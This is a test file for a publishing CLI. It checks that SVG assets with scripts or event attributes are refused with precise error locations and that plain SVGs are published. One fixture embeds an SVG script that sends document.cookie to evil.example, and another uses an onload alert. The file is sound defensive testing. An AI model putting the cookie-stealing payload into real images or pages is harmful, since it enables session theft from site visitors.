import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { aimq, sampleProject } from '../helpers/cli.js';

const ID = '2020-01-13-mission-aimq';
const CLEAN =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>\n';
const SCRIPTED = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
  <rect width="10" height="10"/>
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
</svg>
`;

describe('SVG assets with active content (#11.9)', () => {
  it('release check and release build refuse an SVG with a script, naming the file, line and column', () => {
    const dir = sampleProject();
    writeFileSync(join(dir, 'releases', ID, 'logo.svg'), SCRIPTED);
    const check = aimq(['release', 'check'], dir);
    expect(check.status).toBe(1);
    expect(check.stdout).toContain(
      `releases/${ID}/logo.svg:3:3 error: the SVG image has a <script> element: it would run on the newsroom's site [AIMQ-SVG-ACTIVE]`,
    );
    expect(check.stderr).not.toMatch(/^ {4}at /m);

    const build = aimq(['release', 'build', '--out', 'public'], dir);
    expect(build.status).toBe(1);
    expect(build.stdout + build.stderr).toContain(`releases/${ID}/logo.svg:3:3`);
    expect(existsSync(join(dir, 'public', 'assets', ID, 'logo.svg'))).toBe(false);
  });

  it('is reported with the other problems of the release, a broken front matter included', () => {
    const dir = sampleProject();
    writeFileSync(join(dir, 'releases', ID, 'logo.svg'), '<svg onload="alert(1)"/>');
    const fr = join(dir, 'releases', ID, 'fr.md');
    writeFileSync(fr, readFileSync(fr, 'utf8').replace('\nplace: Montréal\n', '\nplace: Montréal: centre\n'));
    const check = aimq(['release', 'check'], dir);
    expect(check.status).toBe(1);
    expect(check.stdout).toContain('[AIMQ-YAML]');
    expect(check.stdout).toContain(`releases/${ID}/logo.svg:1:6 error: the SVG image has an event attribute`);
  });

  it('publishes a plain SVG as it is', () => {
    const dir = sampleProject();
    writeFileSync(join(dir, 'releases', ID, 'logo.svg'), CLEAN);
    expect(aimq(['release', 'check'], dir).status).toBe(0);
    const build = aimq(['release', 'build', '--out', 'public'], dir);
    expect(build.status, build.stderr).toBe(0);
    expect(existsSync(join(dir, 'public', 'assets', ID, 'logo.svg'))).toBe(true);
  });

  it('aimq codes lists AIMQ-SVG-ACTIVE', () => {
    expect(aimq(['codes'], sampleProject()).stdout).toContain('AIMQ-SVG-ACTIVE');
  });
});
